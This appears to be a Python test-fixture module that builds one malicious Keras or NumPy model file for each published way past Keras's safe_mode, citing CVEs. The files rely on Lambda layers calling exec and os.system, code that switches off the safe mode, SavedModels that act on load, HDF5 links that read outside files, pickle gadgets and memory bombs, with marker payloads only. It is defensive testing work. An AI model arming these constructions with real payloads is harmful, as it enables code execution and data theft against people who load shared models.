"""Model files that were made to act: one for each published way past Keras's ``safe_mode``.

Each is a real file, written here from a good one; what it would do is harmless, and leaves a trace:
a file appears, or a setting of the process changes. The names of the ways are those of
arXiv:2509.06703 and of the CVEs.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Iterator
from pathlib import Path

import h5py
import keras
import numpy as np
import tensorflow as tf

layers = keras.layers


class Attacks:
    """A folder of files that would act.

    Attributes:
        files: Name → file. Those in ``READ`` want to read what lies outside of the file, those in
            ``SWELL`` to take memory or time, all others to write into ``written("")`` or to
            change a setting.
        secret: A file that lies outside of all of them.
    """

    def __init__(self, folder: Path) -> None:
        self.folder, self.files = folder, {}
        self.secret = folder / "secret.txt"
        self.secret.write_text("one\ntwo\nthree\nfour five six\n")
        self.good = _good(folder / "good.keras")
        for name, config in _configurations(self):
            self._add(name, config=config)
        for name, change in _weights(self):
            self._add(name, weights=_changed(self.good["model.weights.h5"], change))
        _python_code(self)
        _bombs(self)
        _arrays(self)

    def written(self, name: str) -> Path:
        """Give a file that an attack would write; ``""`` is the folder of all of them."""
        return self.folder / "written" / name

    def _add(self, name: str, *, config=None, weights=None) -> None:
        members = dict(self.good)
        if config is not None:
            members["config.json"] = json.dumps(config).encode()
        if weights is not None:
            members["model.weights.h5"] = weights
        self.files[name] = path = self.folder / f"{name}.keras"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, content in members.items():
                archive.writestr(member, content)

    @property
    def config(self) -> dict:
        return json.loads(self.good["config.json"])


READ = {"vocabulary", "vocabulary-of-text", "external-storage", "external-link", "virtual"}
SWELL = {
    *("units", "curves", "curves-many", "shape-bomb", "zip-bomb", "huge-config", "deep-config"),
    *("activations", "array-header", "array-zip", "array-filters"),
}


def _good(path: Path) -> dict[str, bytes]:
    pixels = keras.Input((28, 28), name="pixels")
    x = layers.Flatten(name="flat")(pixels)
    x = layers.Dense(8, "relu", kernel_regularizer="l2", bias_constraint="non_neg", name="hidden")(
        x
    )
    model = keras.Model(pixels, layers.Dense(10, "softmax", name="digit")(x))
    schedule = keras.optimizers.schedules.CosineDecay(0.1, 10)
    loss = keras.losses.SparseCategoricalCrossentropy()
    model.compile(keras.optimizers.Adam(schedule), loss, metrics=[keras.metrics.AUC()])
    model.optimizer.build(model.trainable_variables)
    model.save(path)
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# --- configurations ------------------------------------------------------------------------------


def _object(module: str, name: str, config: object, registered: str | None = None) -> dict:
    return {
        "module": module,
        "class_name": name,
        "config": config,
        "registered_name": registered,
    }


def _call(config: dict, module: str, function: str, arguments: dict, *given: object) -> dict:
    """Add a Lambda layer that calls a function of Keras while the file loads."""
    name = f"act_{len(config['config']['layers'])}"
    named = _object(module, "function", function, function)
    layer = _object("keras.layers", "Lambda", {"name": name, "function": named})
    layer["config"]["arguments"] = arguments
    layer |= {"name": name, "inbound_nodes": [{"args": list(given), "kwargs": {}}]}
    config["config"]["layers"].append(layer)
    return config


def _constant(value: object, dtype: str = "float32") -> dict:
    return {"class_name": "__numpy__", "config": {"value": value, "dtype": dtype}}


def _layer(config: dict, name: str) -> dict:
    return next(one for one in config["config"]["layers"] if one["config"]["name"] == name)


class _Acting(tf.saved_model.experimental.TrackableResource):
    """What a SavedModel runs as soon as it is loaded."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.path = str(path)

    def _create_resource(self):
        return tf.raw_ops.MutableHashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

    def _initialize(self):
        tf.io.write_file(self.path, "x")


def _graph(attacks: Attacks) -> dict:
    """Give a TFSMLayer, whose constructor loads a SavedModel that writes a file while it loads."""
    folder, written = attacks.folder / "graph", attacks.written("graph")
    if not folder.exists():
        module = tf.Module()
        module.acting = _Acting(written)
        module.acting.resource_handle  # noqa: B018 (made on first use)
        taken = tf.TensorSpec((None, None), tf.float32)
        module.serve = tf.function(lambda x: x, input_signature=[taken])
        tf.saved_model.save(module, folder, signatures={"serve": module.serve})
        written.unlink(missing_ok=True)  # made here acts once
    settings = {"filepath": str(folder), "call_endpoint": "serve", "name": "act"}
    return _object("keras.layers", "TFSMLayer", settings)


def _configurations(attacks: Attacks) -> Iterator[tuple[str, dict]]:
    pixels = _constant(np.zeros((1, 4, 4, 3), int).tolist(), "uint8")
    written = attacks.written("named-function")
    attacks.written("").mkdir()
    # CVE-2025-8747: functions of Keras's own, with arguments from the file.
    arguments = {"path": str(written) + ".png", "rows": 1, "cols": 1}
    yield (
        "named-function",
        _call(attacks.config, "keras.visualization", "plot_image_gallery", arguments, pixels),
    )
    arguments = {
        "origin": attacks.secret.as_uri(),
        "cache_dir": str(attacks.written("")),
        "cache_subdir": ".",
    }
    yield "get-file", _call(attacks.config, "keras.utils", "get_file", arguments, "get-file")
    # CVE-2025-9906: a file that lifts the safe mode, then runs its own code.
    config = _call(attacks.config, "keras.config", "enable_unsafe_deserialization", {})
    config["config"]["layers"].append(_own_code(attacks.written("lifts-safe-mode")))
    yield "lifts-safe-mode", config
    yield "floatx", _call(attacks.config, "keras.config", "set_floatx", {}, "float16")
    # CVE-2025-1550: any module, any function of it.
    text = f"open({str(attacks.written('any-module'))!r}, 'w').close()"
    for number, (module, function) in enumerate((("builtins", "exec"), ("os", "system"))):
        config = _call(attacks.config, module, function, {}, text)
        yield f"any-module-{number}", config
    # CVE-2026-1462: the constructor of TFSMLayer; as a layer, and wherever an object may stand.
    config = attacks.config
    layer = _graph(attacks)
    layer |= {"name": "act", "inbound_nodes": [{"args": [_constant([[1.0]])], "kwargs": {}}]}
    config["config"]["layers"].append(layer)
    yield "graph", config
    for name, (place, key) in {
        "initializer": ("hidden", "kernel_initializer"),
        "regularizer": ("hidden", "kernel_regularizer"),
        "constraint": ("hidden", "bias_constraint"),
        "activation": ("digit", "activation"),
        "policy": ("digit", "dtype"),
    }.items():
        config = attacks.config
        _layer(config, place)["config"][key] = _graph(attacks)
        yield f"graph-as-{name}", config
    for name in ("optimizer", "loss", "metrics"):
        config, acting = attacks.config, _graph(attacks)
        config["compile_config"][name] = [acting] if name == "metrics" else acting
        yield f"graph-as-{name}", config
    config = attacks.config
    settings = config["compile_config"]["optimizer"]["config"]
    settings["learning_rate"] = _graph(attacks)
    yield "graph-as-schedule", config
    for wrapper in ("TimeDistributed", "Bidirectional", "SpectralNormalization"):
        config, name = attacks.config, f"graph-in-{wrapper}"
        inner = {"name": "hidden", "layer": _graph(attacks)}
        _layer(config, "hidden").update(
            module="keras.layers", class_name=wrapper, config=inner, build_config=None
        )
        yield name, config
    for key in ("build_config", "compile_config"):
        config, name = attacks.config, f"graph-in-{key}"
        _layer(config, "hidden")[key] = {"input_shape": _graph(attacks)}
        yield name, config
    config = attacks.config
    _layer(config, "hidden")["inbound_nodes"][0]["kwargs"] = {"training": _graph(attacks)}
    yield "graph-as-argument", config
    # CVE-2025-12058: a vocabulary that is a path.
    for name, kind in (("vocabulary", "StringLookup"), ("vocabulary-of-text", "TextVectorization")):
        config = attacks.config
        layer = getattr(layers, kind)(vocabulary=["a"], name=name)
        layer = keras.saving.serialize_keras_object(layer) | {"name": name, "inbound_nodes": []}
        layer["config"]["vocabulary"] = str(attacks.secret)
        config["config"]["layers"].append(layer)
        yield name, config


def _own_code(path: Path) -> dict:
    """Write a Lambda of Python code as Keras does; it runs while the layer is called."""
    layer = layers.Lambda(eval(f"lambda x: [open({str(path)!r}, 'w').close(), x][1]"), name="own")
    written = keras.saving.serialize_keras_object(layer)
    written |= {"name": "own", "inbound_nodes": [{"args": [_constant([[1.0]])], "kwargs": {}}]}
    return written


def _python_code(attacks: Attacks) -> None:
    """Python code in a Lambda (CVE-2024-3660), also in HDF5, which has no safe mode (-9905)."""
    config = attacks.config
    config["config"]["layers"].append(_own_code(attacks.written("own-code")))
    attacks._add("own-code", config=config)
    for name, ending in (("own-code-h5", ".h5"), ("own-code-h5-renamed", ".keras")):
        written = attacks.written(name)
        act = eval(f"lambda x: [open({str(written)!r}, 'w').close(), x][1]")
        ends = [layers.Flatten(), layers.Dense(10, "softmax")]
        keras.Sequential([keras.Input((28, 28)), layers.Lambda(act), *ends]).save(
            attacks.folder / f"{name}.h5"
        )
        attacks.files[name] = (attacks.folder / f"{name}.h5").rename(
            attacks.folder / f"{name}{ending}"
        )
        written.unlink(missing_ok=True)


# --- weights, bombs, arrays ----------------------------------------------------------------------


def _changed(weights: bytes, change) -> bytes:
    stored = io.BytesIO(weights)
    with h5py.File(stored, "r+") as file:
        group = file["layers/dense/vars"]
        del group["1"]
        change(group)
    return stored.getvalue()


def _weights(attacks: Attacks):
    # CVE-2026-1669: numbers that lie in another file of whoever opens this one.
    outside = str(attacks.secret)

    def virtual(group: h5py.Group) -> None:
        layout = h5py.VirtualLayout(shape=(8,), dtype="f4")
        layout[:] = h5py.VirtualSource(outside, "x", shape=(8,))
        group.create_virtual_dataset("1", layout)

    yield (
        "external-storage",
        lambda group: group.create_dataset("1", (7,), "f4", external=[(outside, 0, 28)]),
    )
    yield "external-link", lambda group: group.__setitem__("1", h5py.ExternalLink(outside, "/"))
    yield "virtual", virtual
    # CVE-2026-0897: terabytes in a line.
    yield (
        "shape-bomb",
        lambda group: group.create_dataset("1", (10**12,), "f4", chunks=(10**6,)),
    )


def _bombs(attacks: Attacks) -> None:
    config = attacks.config
    _layer(config, "hidden")["config"]["units"] = 1_000_000
    attacks._add("units", config=config)
    curve = attacks.config["compile_config"]["metrics"][0]
    curve["config"] |= {"num_thresholds": 10_000, "multi_label": True, "num_labels": 1_000}
    curve["config"]["label_weights"] = None
    config = attacks.config
    config["compile_config"]["metrics"] = [curve] * 20
    attacks._add("curves", config=config)
    curve["config"] |= {"num_thresholds": 2, "num_labels": 1}
    config["compile_config"]["metrics"] = [[curve] * 100] * 10
    attacks._add("curves-many", config=config)
    attacks._add("zip-bomb", weights=bytes(256 * 2**20))
    attacks.files["huge-config"] = attacks.folder / "huge-config.keras"
    attacks._add("huge-config", config=["x" * 100] * 1_000_000)
    deep = attacks.folder / "deep-config.keras"
    attacks.files["deep-config"] = deep
    with zipfile.ZipFile(deep, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in attacks.good.items():
            archive.writestr(name, b"[" * 900_000 if name == "config.json" else content)
    pixels = keras.Input((28, 28, 1))
    x = layers.Conv2D(600, 1)(pixels)
    for _ in range(60):
        x = layers.Activation("mish")(x)
    x = layers.Dense(10, "softmax")(layers.GlobalAveragePooling2D()(x))
    attacks.files["activations"] = attacks.folder / "activations.keras"
    keras.Model(pixels, x).save(attacks.files["activations"])


class _Pickled:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):
        return (Path.touch, (self.path,))


def _arrays(attacks: Attacks) -> None:
    """Files of the other form, ``.npz``."""

    def add(name: str, members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> None:
        attacks.files[name] = attacks.folder / f"{name}.npz"
        with zipfile.ZipFile(attacks.files[name], "w", method) as archive:
            for member, content in members.items():
                archive.writestr(member, content)

    def array(value: np.ndarray) -> bytes:
        stored = io.BytesIO()
        np.save(stored, value, allow_pickle=True)
        return stored.getvalue()

    def described(*kinds: dict) -> bytes:
        text = json.dumps({"layers": list(kinds), "about": {"temperature": 1, "threshold": 0.5}})
        return array(np.frombuffer(text.encode(), np.uint8))

    pickled = np.array([_Pickled(attacks.written("pickle"))], object)
    add("pickle", {"network.npy": array(pickled)})
    add("pickle-alone", {"network": pickle.dumps(_Pickled(attacks.written("pickle-alone")))})
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }".ljust(117)
    huge = b"\x93NUMPY\x01\x00" + (118).to_bytes(2, "little") + header + b"\n"
    add("array-header", {"network.npy": huge})
    add("array-zip", {"network.npy": described(), "0.0.npy": bytes(2**28)})
    # 78 million values of one digit, in a file of a hundred kilobytes.
    zeros = {(1, 1, 1, 100_000): "1.0", (100_000,): "1.1", (100_000, 10): "4.0", (10,): "4.1"}
    kinds = ({"kind": "scale", "factor": 1, "offset": 0}, {"kind": "conv", "stride": 1})
    kinds += ({"kind": "pool", "size": 28}, {"kind": "flatten"}, {"kind": "dense"})
    add(
        "array-filters",
        {
            "network.npy": described(*kinds, {"kind": "softmax"}),
            **{f"{key}.npy": array(np.zeros(shape, np.float16)) for shape, key in zeros.items()},
        },
    )
